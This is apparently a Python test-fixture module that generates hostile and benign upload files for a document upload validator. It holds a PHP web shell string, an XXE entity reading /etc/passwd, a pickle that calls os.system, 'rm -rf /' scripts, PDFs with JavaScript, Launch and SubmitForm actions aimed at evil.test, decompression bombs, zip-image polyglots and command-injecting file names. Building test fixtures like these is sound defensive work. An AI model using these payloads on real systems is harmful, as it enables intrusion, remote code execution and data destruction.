"""Files nobody should send, and odd ones that are fine, each made here: (name, content) pairs."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache

import pillow_heif
from PIL import Image, PngImagePlugin

from tests.locked_pdf import locked_pdf

File = tuple[str, bytes]
PHP = b"<?php system($_GET['canary']); ?>"
SCRIPT = b"<script>alert('canary')</script>"


# --- Makers ---


@cache
def picture(kind: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **options) -> bytes:
    noise = random.Random(size[0])  # noqa: S311  # the same picture each time
    image = Image.new(mode, size)
    if mode == "RGB":
        image.putdata([(noise.randrange(256), x % 256, 90) for x in range(size[0] * size[1])])
    content = io.BytesIO()
    image.save(content, kind, **options)
    return content.getvalue()


@cache
def heic(size: tuple[int, int] = (128, 96)) -> bytes:
    content = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", size, "teal")).save(content)
    return content.getvalue()


def pdf(catalog: str = "", page: str = "", *more: bytes, pages: int = 1) -> bytes:
    """A PDF with these entries in its catalog and its first page, and these objects from 10 on."""
    kids = " ".join(f"{100 + i} 0 R" for i in range(pages))
    objects = {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        2: f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        3: b"<< /Length 37 >>\nstream\nBT (/JS /JavaScript 1 0 obj <<) Tj ET \nendstream",
        **{10 + i: content for i, content in enumerate(more)},
        **{
            100 + i: (
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 3 0 R "
                + page.encode("latin-1")
                + b" >>"
            )
            for i in range(pages)
        },
    }
    return assembled(objects)


def assembled(objects: dict[int, bytes], trailer: str = "") -> bytes:
    body, rows = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", b""
    for number, content in sorted(objects.items()):
        rows += b"%d 1\n%010d 00000 n \n" % (number, len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    size = max(objects) + 1
    return body + (
        b"xref\n0 1\n0000000000 65535 f \n%strailer << /Size %d /Root 1 0 R %s >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (rows, size, trailer.encode(), len(body))
    )


def in_object_stream(hidden: bytes) -> bytes:
    """A PDF whose first action stands compressed, where no search for words finds it."""
    packed = zlib.compress(b"10 0 " + hidden)
    stream = (
        b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(packed), packed)
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>",
        stream,
    ]
    body, offsets = b"%PDF-1.7\n", {}
    for number, content in enumerate(objects, start=1):
        offsets[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    offsets[5] = len(body)
    rows = {0: (0, 0, 255), 10: (2, 4, 0)} | {n: (1, at, 0) for n, at in offsets.items()}
    table = b"".join(struct.pack(">BHB", *rows.get(n, (0, 0, 0))) for n in range(11))
    body += (
        b"5 0 obj\n<< /Type /XRef /Size 11 /W [1 2 1] /Root 1 0 R /Length %d >>\nstream\n%s\n"
        b"endstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, offsets[5])
    )
    return body


def archive(name: str = "evil.exe") -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(name, b"MZ" + b"\0" * 500)
    return content.getvalue()


def png_of_size(width: int, height: int) -> bytes:
    """A PNG that claims a size; the pixels compress to nothing."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * min(width * 3 * 100, 10_000_000))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(part)) + kind + part + struct.pack(">I", zlib.crc32(kind + part))
        for kind, part in ((b"IHDR", header), (b"IDAT", data), (b"IEND", b""))
    )


def jpeg_of_size(width: int, height: int) -> bytes:
    content = bytearray(picture("JPEG"))
    at = content.index(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(content)


# --- Refused: none of the kinds we take ---

STARTS = {
    "program.exe": b"MZ\x90\0" + b"\0" * 200,
    "program": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
    "mac": b"\xcf\xfa\xed\xfe" + b"\0" * 200,
    "Class.class": b"\xca\xfe\xba\xbe\0\0\0\x34",
    "packed.zip": archive(),
    "letter.docx": archive("word/document.xml"),
    "sheet.xlsx": archive("xl/workbook.xml"),
    "app.jar": archive("META-INF/MANIFEST.MF"),
    "a.rar": b"Rar!\x1a\x07\x01\0" + b"\0" * 50,
    "a.7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 50,
    "a.gz": b"\x1f\x8b\x08\0" + b"\0" * 50,
    "a.bz2": b"BZh91AY&SY" + b"\0" * 50,
    "a.xz": b"\xfd7zXZ\0" + b"\0" * 50,
    "a.tar": b"name".ljust(257, b"\0") + b"ustar\x0000",
    "still.gif": picture("GIF", mode="P"),
    "polyglot.gif": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert('canary')",
    "a.bmp": picture("BMP"),
    "a.tiff": picture("TIFF"),
    "big-endian.tiff": b"MM\0*" + b"\0" * 50,
    "a.webp": picture("WEBP"),
    "a.avif": b"\0\0\0\x1cftypavif" + b"\0" * 60,
    "film.mp4": b"\0\0\0\x18ftypmp42" + b"\0" * 60,
    "film.mov": b"\0\0\0\x14ftypqt  " + b"\0" * 60,
    "a.ico": b"\0\0\x01\0\x01\0" + b"\0" * 50,
    "a.psd": b"8BPS\0\x01" + b"\0" * 50,
    "a.svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
    "script.svg": b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
    "onload.svg": b"<?xml version='1.0'?><svg onload=\"alert('canary')\"/>",
    "a.html": b"<!doctype html>" + SCRIPT,
    "utf16.html": b"\xff\xfe" + SCRIPT.decode().encode("utf-16-le"),
    "bom.html": b"\xef\xbb\xbf" + SCRIPT,
    "utf7.html": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "entity.xml": b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
    "laughs.xml": b"<!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]><l>&b;</l>",
    "shell.php": PHP,
    "run.sh": b"#!/bin/sh\nrm -rf /\n",
    "run.bat": b"@echo off\r\ndel *.*\r\n",
    "run.ps1": b"Invoke-WebRequest http://evil.test\r\n",
    "run.vbs": b'CreateObject("WScript.Shell")\r\n',
    "run.js": b"alert('canary')",
    "pickle": b"\x80\x04cos\nsystem\n(S'id'\ntR.",
    "data.json": b'{"a": 1}',
    "data.csv": b"=cmd|'/c calc'!A1,2\n",
    "note.txt": b"Dear airline,\n",
    "letter.rtf": b"{\\rtf1\\ansi hello}",
    "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 200,
    "mail.eml": b"From: a@example.org\r\nSubject: x\r\n\r\nhello",
    "a.ps": b"%!PS-Adobe-3.0\n(canary) show\n",
    "a.swf": b"FWS\x09" + b"\0" * 50,
    "a.mp3": b"ID3\x04\0" + b"\0" * 50,
    "a.wav": b"RIFF\0\0\0\0WAVE" + b"\0" * 50,
    "a.ogg": b"OggS" + b"\0" * 50,
    "a.wasm": b"\0asm\x01\0\0\0",
    "a.lnk": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60,
    "a.sqlite": b"SQLite format 3\0" + b"\0" * 80,
    "font.ttf": b"\0\x01\0\0\0\x0f" + b"\0" * 50,
    "one-byte": b"x",
    "nul": b"\0",
    "blank": b" \r\n\t" * 20,
    "nothing-but-nul": b"\0" * 4096,
    "late.pdf": b"\n" * 10 + pdf(),
    "lower.pdf": b"%pdf-1.7\n" + pdf()[9:],
    "html-first.pdf": SCRIPT + pdf(),
    "half-start.jpg": b"\xff\xd8",
    "half-start.png": b"\x89PNG",
    "late.jpg": b"\0" + picture("JPEG"),
    "crlf-lost.png": picture("PNG").replace(b"\r\n", b"\n", 1),
}


def wrong_types() -> Iterator[File]:
    """As they are, and some of them with the endings of the kinds we take."""
    yield from STARTS.items()
    for name in ("program.exe", "a.html", "script.svg", "shell.php", "packed.zip", "still.gif"):
        for ending in ("pdf", "jpg", "PNG", "heic", "pdf.exe"):
            yield f"boarding-pass-{name}.{ending}", STARTS[name]


def archives_in_disguise() -> Iterator[File]:
    """Files that are two things at once: the picture one sees, and an archive behind it."""
    for kind, content in (("jpg", picture("JPEG")), ("png", picture("PNG")), ("pdf", pdf()),
                          ("heic", heic())):  # fmt: skip
        yield f"archive.{kind}", content + archive()
        yield f"java.{kind}", content + archive("META-INF/MANIFEST.MF")
        yield f"trailing.{kind}", content + archive() + b"\n\n"


# --- Refused: broken ---


def cut_off() -> Iterator[File]:
    for kind, content in (("jpg", picture("JPEG", (200, 150))), ("png", picture("PNG", (90, 70)))):
        for percent in range(4, 95, 6):
            yield f"cut-{percent}.{kind}", content[: len(content) * percent // 100]
    for percent in range(5, 90, 10):
        yield f"cut-{percent}.heic", heic()[: len(heic()) * percent // 100]
    for percent in (1, 2, 4, 8):
        yield f"cut-{percent}.pdf", pdf(pages=30)[: len(pdf(pages=30)) * percent // 100]
    yield "head-only.pdf", b"%PDF-1.7\n"
    yield "words-only.pdf", b"%PDF-1.7\nthis is no document\n%%EOF"
    yield "no-pages.pdf", assembled({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                     2: b"<< /Type /Pages /Kids [] /Count 0 >>"})  # fmt: skip
    yield "no-catalog.pdf", assembled({1: b"<< /Type /Other >>"})
    yield "zeros.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 2000
    yield "zeros.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 2000
    yield "zeros.heic", b"\0\0\0\x18ftypheic" + b"\0" * 2000
    yield "picture-head.heic", heic()[:12] + picture("JPEG")
    yield "jpeg-head.png", b"\xff\xd8\xff" + picture("PNG")
    yield "html-in.jpg", b"\xff\xd8\xff\xe0" + SCRIPT * 20
    yield "php-in.png", b"\x89PNG\r\n\x1a\n" + PHP * 20


def too_large_inside() -> Iterator[File]:
    """Small on the way, huge when opened."""
    for size in ((20_000, 20_000), (65_535, 65_535), (2**31 - 1, 1), (8_000, 8_000)):
        yield f"{size[0]}x{size[1]}.png", png_of_size(*size)
    for size in ((65_500, 65_500), (30_000, 3_000)):
        yield f"{size[0]}x{size[1]}.jpg", jpeg_of_size(*size)
    yield "many-pages.pdf", pdf(pages=250)
    text = PngImagePlugin.PngInfo()
    text.add_text("a", "x" * 80_000_000, zip=True)
    yield "text-bomb.png", picture_with(text)


def picture_with(info: PngImagePlugin.PngInfo) -> bytes:
    content = io.BytesIO()
    Image.new("RGB", (8, 8)).save(content, "PNG", pnginfo=info)
    return content.getvalue()


# --- Refused: acts by itself ---

ACTIONS = {
    "javascript": "<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    "javascript-spelled": "<< /S /J#61vaScr#69pt /JS (1) >>",
    "javascript-all-spelled": "<< /#53 /#4a#61#76#61#53#63#72#69#70#74 /JS (1) >>",
    "javascript-hex": "<< /JS <616C657274> /S/JavaScript>>",
    "launch": "<< /S /Launch /F (calc.exe) >>",
    "launch-windows": "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
    "submit": "<< /S /SubmitForm /F (http://evil.test) >>",
    "import": "<< /S /ImportData /F (data.fdf) >>",
    "embedded-go": "<< /S /GoToE /T << /R /C >> >>",
    "rendition": "<< /S /Rendition /OP 0 >>",
    "then": "<< /S /GoTo /D [100 0 R /Fit] /Next << /S /JavaScript /JS (1) >> >>",
    "commented": "<< /S % a comment >>\n /JavaScript /JS (1) >>",
}
FILE_INSIDE = (
    b"<< /Type /Filespec /F (x.exe) /EF << /F 11 0 R >> >>",
    b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
)


def active_pdfs() -> Iterator[File]:
    for name, action in ACTIONS.items():
        yield f"open-{name}.pdf", pdf(f"/OpenAction {action}")
        annotation = f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {action} >>"
        yield f"link-{name}.pdf", pdf("", f"/Annots [ {annotation} ]")
        yield f"page-{name}.pdf", pdf("", f"/AA << /O {action} >>")
        yield f"reference-{name}.pdf", pdf("/OpenAction 10 0 R", "", action.encode())
    yield "closing.pdf", pdf(f"/AA << /WC {ACTIONS['javascript']} >>")
    yield "names.pdf", pdf(f"/Names << /JavaScript << /Names [(a) {ACTIONS['javascript']}] >> >>")
    yield "hidden.pdf", in_object_stream(b"<< /S /J#61vaScript /JS (1) >>")
    yield "hidden-launch.pdf", in_object_stream(b"<< /S /Launch /F (calc.exe) >>")
    yield (
        "files.pdf",
        pdf("/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>", "", *FILE_INSIDE),
    )
    attached = "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 10 0 R >>"
    yield "attached.pdf", pdf("", f"/Annots [ {attached} ]", *FILE_INSIDE)
    yield "associated.pdf", pdf("/AF [10 0 R]", "", *FILE_INSIDE)
    yield "xfa.pdf", pdf("/AcroForm << /Fields [] /XFA 10 0 R >>", "",
                         b"<< /Length 5 >>\nstream\n<xdp>\nendstream")  # fmt: skip
    for kind in ("RichMedia", "Movie", "Screen", "Sound", "3D"):
        shown = f"<< /Type /Annot /Subtype /{kind} /Rect [0 0 9 9] >>"
        yield f"{kind}.pdf", pdf("", f"/Annots [ {shown} ]")


def locked() -> Iterator[File]:
    for password in ("secret", "x", "correct horse battery staple 12"):
        yield f"locked-{len(password)}.pdf", locked_pdf(password)


# --- Taken, and made harmless ---


def carrying_code() -> Iterator[File]:
    """Real pictures and papers with code where no reader of pictures looks."""
    exif = Image.Exif()
    exif[0x010E] = PHP.decode()
    exif[0x013B] = SCRIPT.decode()
    yield "exif.jpg", picture("JPEG", exif=exif.tobytes())
    yield "comment.jpg", picture("JPEG", comment=PHP)
    yield "after-the-end.jpg", picture("JPEG") + PHP
    yield "html-after-the-end.jpg", picture("JPEG") + SCRIPT * 9
    yield "after-the-end.png", picture("PNG") + PHP
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", PHP.decode())
    text.add_itxt("XML:com.adobe.xmp", SCRIPT.decode())
    yield "text.png", picture_with(text)
    yield "after-the-end.pdf", pdf() + SCRIPT
    yield "comment.pdf", pdf().replace(b"%\xe2", b"%" + PHP + b"%\xe2")
    yield "title.pdf", pdf("/Lang (<script>canary</script>)")
    yield "animated.png", animated_png()
    yield "picture.jpg.exe", picture("JPEG")
    yield "paper.html", pdf()


def animated_png() -> bytes:
    content = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green", "blue")]
    frames[0].save(content, "PNG", save_all=True, append_images=frames[1:])
    return content.getvalue()


def mutated(count: int) -> Iterator[File]:
    """Good files with some bytes changed at random, the same each time."""
    good = {"jpg": picture("JPEG"), "png": picture("PNG"), "pdf": pdf(pages=3), "heic": heic()}
    for seed in range(count):
        chance = random.Random(seed)  # noqa: S311  # the same files each time
        kind = chance.choice(sorted(good))
        content = bytearray(good[kind])
        for _ in range(chance.randrange(1, 30)):
            content[chance.randrange(12, len(content))] = chance.randrange(256)
        yield f"mutated-{seed}.{kind}", bytes(content)


NAMES = (
    "../../etc/passwd.png",
    "..\\..\\windows\\system32\\evil.png",
    "/etc/cron.d/evil.png",
    "C:\\evil.png",
    "evil\u202egnp.exe",
    "\u2066left\u2069.png",
    "x" * 300 + ".png",
    "x" * 5000,
    "ü" * 200 + ".png",
    "a\r\nSet-Cookie: b=c.png",
    "a\tb.png",
    '"quoted".png',
    "<script>alert(1)</script>.png",
    "; rm -rf ~ .png",
    "$(id).png",
    "%00.png",
    "%2e%2e%2fpasswd.png",
    "CON.png",
    "...",
    ".htaccess",
    "🛫 boarding.png",
    "パスポート.png",
    "=cmd|'/c calc'!A1.png",
)


# --- Odd, and fine ---


def benign() -> Iterator[File]:
    yield "plain.jpg", picture("JPEG")
    yield "progressive.jpg", picture("JPEG", progressive=True)
    yield "grey.jpg", picture("JPEG", mode="L")
    yield "press.jpg", picture("JPEG", mode="CMYK")
    turned = Image.Exif()
    turned[0x0112] = 6
    yield "turned.jpeg", picture("JPEG", exif=turned.tobytes())
    yield "camera.jpg", picture("MPO", save_all=True)
    yield "large.jpg", jpeg_large()
    yield "tiny.png", picture("PNG", (1, 1))
    yield "clear.png", picture("PNG", mode="RGBA")
    yield "palette.png", picture("PNG", mode="P")
    yield "fax.png", picture("PNG", mode="1")
    yield "deep.png", picture("PNG", mode="I;16")
    yield "telephone.heic", heic()
    yield "large.heic", heic((1024, 768))
    yield "plain.pdf", pdf()
    yield "words-like-code.pdf", pdf("/Title (\\( /S /JavaScript /EmbeddedFile <<)")
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    yield "font-called-js.pdf", pdf("", "/Resources << /Font << /JS 10 0 R >> >>", font)
    yield "opens-at-page-1.pdf", pdf("/OpenAction [100 0 R /Fit]")
    yield "go-to.pdf", pdf("/OpenAction << /S /GoTo /D [100 0 R /Fit] >>")
    visit = "<< /S /URI /URI (https://airline.test) >>"
    link = f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {visit} >>"
    yield "link.pdf", pdf("", f"/Annots [ {link} ]")
    field = b"<< /FT /Tx /T (name) /V (Ada) /Subtype /Widget /Rect [0 0 9 9] >>"
    yield "form.pdf", pdf("/AcroForm << /Fields [10 0 R] >>", "", field)
    yield "long.pdf", pdf(pages=120)
    yield "poster.pdf", pdf("", "/UserUnit 10 /CropBox [0 0 300 200]")
    yield "no-edits-allowed.pdf", locked_pdf("")
    yield "js-in-a-picture.jpg", picture("JPEG", comment=b"/JS /JavaScript /OpenAction /Launch")


def jpeg_large() -> bytes:
    content = io.BytesIO()
    Image.new("RGB", (4032, 3024), "silver").save(content, "JPEG", quality=60)
    return content.getvalue()
